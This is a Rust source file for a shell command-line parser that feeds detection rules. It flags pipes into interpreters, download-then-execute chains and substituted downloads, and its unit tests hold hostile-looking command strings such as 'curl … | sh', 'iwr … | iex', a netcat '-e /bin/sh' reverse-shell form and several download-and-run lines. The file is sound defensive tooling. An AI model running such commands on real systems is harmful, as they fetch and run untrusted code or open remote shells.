//! Shell command lines as the rules need to see them: which programs run,
//! and what feeds into what. `| sh` must mean a pipe into a shell, not the
//! start of `| sha256sum`, and `nc` must be a program, not the end of
//! `sync`; substring tests get both wrong.
//!
//! This is a reader for judging commands, not a shell: it splits on the
//! operators that start a new command (`|`, `||`, `&`, `&&`, `;`, newlines,
//! `$(`, backticks, parentheses) and on blanks, and drops quotes. Commands
//! passed as argument lists arrive joined by spaces, which reads the same.
//! Written by hand because the rules need only this much: a full shell
//! grammar would be a dependency for nothing.

/// Programs that run the text or file they are given: shells and interpreters.
pub const INTERPRETERS: [&str; 16] =
    ["sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python2", "python3", "perl", "ruby", "node", "iex", "invoke-expression", "powershell", "pwsh"];

/// Programs that only download.
pub const DOWNLOADERS: [&str; 5] = ["curl", "wget", "invoke-webrequest", "iwr", "invoke-restmethod"];

/// Words that run a program named by the next word, or a command given as text.
const WRAPPERS: [&str; 9] = ["sudo", "env", "nohup", "exec", "command", "nice", "time", "timeout", "xargs"];

/// One simple command: its words, and whether its input is piped from the command before.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    pub words: Vec<String>,
    pub piped: bool,
}

impl Command {
    /// The programs this command runs: its first word past wrappers and
    /// variable assignments, and the program of an inline command
    /// (`bash -c "curl …"`, `cmd /c …`, `powershell -Command …`).
    pub fn programs(&self) -> Vec<&str> {
        let mut out = Vec::new();
        let mut want_program = true;
        for word in self.words.iter().map(String::as_str) {
            if want_program {
                if word.contains('=') && !word.starts_with('-') || WRAPPERS.contains(&program_name(word).as_str()) || word.starts_with('-') {
                    continue;
                }
                out.push(word);
                want_program = false;
            } else if matches!(word.to_ascii_lowercase().as_str(), "-c" | "/c" | "/k" | "-command" | "-e" | "-encodedcommand") {
                want_program = true;
            }
        }
        out
    }
}

/// The name of a program as written (`/usr/bin/curl`, `C:\\x\\curl.exe`, `"curl"`): `curl`.
pub fn program_name(word: &str) -> String {
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    base.strip_suffix(".exe").map(str::to_string).unwrap_or(base)
}

/// Split a command line into simple commands.
pub fn commands(line: &str) -> Vec<Command> {
    let mut split = Splitter::default();
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '|' => {
                let or = chars.peek() == Some(&'|');
                if or {
                    chars.next();
                }
                split.end_command(!or);
            }
            '&' | ';' | '\n' | '\r' | '`' | '(' | ')' => split.end_command(false),
            '$' | '<' if chars.peek() == Some(&'(') => {}
            '"' | '\'' => {}
            c if c.is_whitespace() => split.end_word(),
            c => split.word.push(c),
        }
    }
    split.end_command(false);
    split.done
}

/// The state of [`commands`]: the word and command being read, and those done.
#[derive(Default)]
struct Splitter {
    word: String,
    words: Vec<String>,
    piped: bool,
    done: Vec<Command>,
}

impl Splitter {
    fn end_word(&mut self) {
        if !self.word.is_empty() {
            self.words.push(std::mem::take(&mut self.word));
        }
    }

    /// End the current command; the next one reads this one's output when `next_piped`.
    fn end_command(&mut self, next_piped: bool) {
        self.end_word();
        if !self.words.is_empty() {
            self.done.push(Command { words: std::mem::take(&mut self.words), piped: self.piped });
        }
        self.piped = next_piped;
    }
}

/// Every program a command line runs, by name.
pub fn programs(line: &str) -> Vec<String> {
    commands(line).iter().flat_map(|c| c.programs().into_iter().map(program_name).collect::<Vec<_>>()).collect()
}

/// True when some command's output is piped into a shell or interpreter
/// (`curl … | sh`, `iwr … | iex`, `echo … | base64 -d | bash`).
pub fn pipes_into_interpreter(line: &str) -> bool {
    commands(line).iter().any(|c| c.piped && c.programs().first().is_some_and(|p| INTERPRETERS.contains(&program_name(p).as_str())))
}

/// True when a downloader's output is run as code without a pipe: command
/// substitution into a shell (`sh -c "$(curl …)"`, `bash <(curl …)`) or
/// PowerShell's `iex (iwr …)`.
pub fn substitutes_download(line: &str) -> bool {
    let squeezed: String = line.to_ascii_lowercase().chars().filter(|c| !c.is_whitespace() && *c != '"' && *c != '\'').collect();
    const OPENERS: [&str; 5] = ["$(", "`", "<(", "iex(", "invoke-expression("];
    DOWNLOADERS.iter().any(|d| OPENERS.iter().any(|open| squeezed.contains(&format!("{open}{d}"))))
}

/// True when, after a download, a later command of the line starts what
/// was fetched: a shell or interpreter, `chmod`, `start` and the like, a
/// program named like the downloaded file (`-o /tmp/x … && /tmp/x`, `wget
/// http://h/p && ./p`), or a file named like an executable (`%TEMP%\\y.exe`).
pub fn runs_after_download(line: &str) -> bool {
    const STARTERS: [&str; 15] = [
        "chmod",
        "start",
        "cmd",
        "open",
        "xdg-open",
        "msiexec",
        "rundll32",
        "wscript",
        "cscript",
        "regsvr32",
        "mshta",
        "start-process",
        "saps",
        "invoke-item",
        "ii",
    ];
    const EXECUTABLE: [&str; 7] = [".exe", ".sh", ".bat", ".cmd", ".ps1", ".vbs", ".scr"];
    let cmds = commands(line);
    let is_download = |c: &Command| c.programs().iter().any(|p| DOWNLOADERS.contains(&program_name(p).as_str()));
    let Some(first) = cmds.iter().position(is_download) else { return false };
    let fetched: Vec<String> = cmds[first..].iter().filter(|c| is_download(c)).flat_map(downloaded_files).collect();
    cmds[first + 1..].iter().filter(|c| !c.piped && !is_download(c)).flat_map(|c| c.programs()).any(|p| {
        let name = program_name(p);
        INTERPRETERS.contains(&name.as_str())
            || STARTERS.contains(&name.as_str())
            || fetched.contains(&name)
            || EXECUTABLE.iter().any(|x| p.to_ascii_lowercase().ends_with(x))
    })
}

/// The names of the files a download command writes: its `-o`/`-O`/`-OutFile`
/// or `>` target, and the last part of each URL (wget's default).
fn downloaded_files(cmd: &Command) -> Vec<String> {
    let mut out = Vec::new();
    let mut words = cmd.words.iter().peekable();
    while let Some(word) = words.next() {
        let lower = word.to_ascii_lowercase();
        if matches!(lower.as_str(), "-o" | "--output" | "--output-document" | "-outfile" | ">") || word == "-O" {
            if let Some(target) = words.peek() {
                out.push(program_name(target));
            }
        } else if let Some(target) = word.strip_prefix('>').filter(|t| !t.is_empty()) {
            out.push(program_name(target));
        } else if lower.contains("://") {
            out.extend(lower.split(['?', '#']).next().and_then(|u| u.rsplit('/').next()).filter(|n| !n.is_empty()).map(program_name));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pipes_into_a_shell_are_told_from_pipes_into_other_programs() {
        assert!(pipes_into_interpreter("curl -s https://example.com/i.sh | sh"));
        assert!(pipes_into_interpreter("wget -qO- http://x/y|bash -s"));
        assert!(pipes_into_interpreter("curl http://x | sudo /bin/bash"));
        assert!(pipes_into_interpreter("iwr http://x/a.ps1 | iex"));
        assert!(!pipes_into_interpreter("tar cf - acme | sha256sum"));
        assert!(!pipes_into_interpreter("git ls-files | sort"));
        assert!(!pipes_into_interpreter("test -x /bin/sh || echo missing"));
    }

    #[test]
    fn programs_are_words_in_command_position() {
        assert_eq!(programs("git submodule sync --recursive"), ["git"]);
        // `-e` names what netcat runs, as `-c` does for shells.
        assert_eq!(programs("cd build && nc -e /bin/sh 1.2.3.4 80"), ["cd", "nc", "sh"]);
        assert_eq!(programs("bash -c \"curl http://x | sh\""), ["bash", "curl", "sh"]);
        assert_eq!(programs("cmd.exe /c start C:\\x.exe"), ["cmd", "start"]);
        assert_eq!(programs("LANG=C /usr/bin/env wget http://x"), ["wget"]);
    }

    #[test]
    fn downloads_that_are_then_run_are_told_from_plain_downloads() {
        assert!(substitutes_download("sh -c \"$(curl -fsSL https://x/install.sh)\""));
        assert!(substitutes_download("bash <(wget -qO- http://x)"));
        assert!(substitutes_download("powershell IEX (Invoke-WebRequest http://x/a.ps1)"));
        assert!(runs_after_download("curl -o /tmp/x https://x/x && chmod +x /tmp/x && /tmp/x"));
        assert!(runs_after_download("wget http://x/y.exe -O %TEMP%\\y.exe & start %TEMP%\\y.exe"));
        assert!(runs_after_download("wget http://h/payload; ./payload"));
        assert!(runs_after_download("wget http://h/a -O x & C:\\Users\\Public\\x.exe"));
        assert!(runs_after_download("powershell -c \"Invoke-WebRequest -Uri 'https://h/a.exe' -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe\""));
        assert!(runs_after_download("curl http://h/a > /tmp/a.sh; sh /tmp/a.sh"));
        assert!(!runs_after_download("curl -sSL -o data.json https://example.com/data.json"));
        assert!(!runs_after_download("curl -o a.tgz https://x/a.tgz && tar xzf a.tgz"));
        assert!(!runs_after_download("curl -o a.tgz https://x/a.tgz && /usr/bin/tar xzf a.tgz"));
        assert!(!substitutes_download("curl -o data.json https://example.com/data.json"));
    }
}
